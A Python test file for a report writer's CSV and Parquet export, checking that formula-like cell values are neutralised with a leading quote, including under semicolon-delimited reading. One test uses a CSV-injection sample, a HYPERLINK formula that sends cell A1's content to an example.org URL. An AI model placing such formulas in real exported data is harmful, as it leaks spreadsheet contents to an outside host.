from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import polars as pl
from polars.testing import assert_frame_equal

from pages import papers, spaced
from workbench.corpus import Corpus
from workbench.load import load
from workbench.report.sheets import write_sheets


def test_csv_is_for_spreadsheets_and_parquet_holds_the_frame(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "title": ["=HYPERLINK(1)", 'A "quiet", cold\nwinter', None],
            "authors": [["Ada", "Bo"], [], None],
            "change": [-1.5, 2.0, None],
            "day": [date(2025, 3, 12), None, None],
        }
    )
    csv_path, parquet_path = write_sheets({"papers": frame}, tmp_path)
    assert (csv_path.name, parquet_path.name) == ("papers.csv", "papers.parquet")
    assert csv_path.read_bytes().startswith(b'\xef\xbb\xbf"title",')
    with csv_path.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [
            ["title", "authors", "change", "day"],
            ["'=HYPERLINK(1)", "Ada; Bo", "-1.5", "2025-03-12"],
            ['A "quiet", cold\nwinter', "", "2.0", ""],
            ["", "", "", ""],
        ]
    assert_frame_equal(pl.read_parquet(parquet_path), frame)


def test_a_semicolon_parts_no_cells_where_it_is_the_separator(tmp_path: Path) -> None:
    """As a spreadsheet reads CSV in countries that write 1,5."""
    texts = ["Sand;=HYPERLINK(1)", 'a ";=1', "b\n;=1", "c,;=1", ";=1", "1;=1"]
    frame = pl.DataFrame({"title": texts, "authors": [["Ada", "=1"]] * 6, "n": range(6)})
    csv_path, _ = write_sheets({"papers": frame}, tmp_path)
    with csv_path.open(encoding="utf-8-sig", newline="") as file:
        assert [row[0] for row in csv.reader(file)] == ["title", *texts]
    with csv_path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
    assert [cell for cell in cells if cell.startswith("=")] == []


def test_a_formula_in_a_dump_is_harmless_in_the_tables_of_a_report(tmp_path: Path) -> None:
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    out.mkdir()
    formula = '=HYPERLINK("https://example.org/?"&A1, "Foam")'
    listed = [(formula, papers(1)[0][1]), *papers(2, 3)]
    (raw / "page.txt").write_text(spaced(listed), encoding="utf-8")
    load(raw, tmp_path / "tables")
    corpus = Corpus.open(tmp_path / "tables")
    assert formula in corpus.papers["title"].to_list()
    write_sheets({"listings": corpus.listings, "papers": corpus.papers}, out)
    for name in ("listings", "papers"):
        with (out / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.DictReader(file))
        assert f"'{formula}" in [row["title"] for row in rows]
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
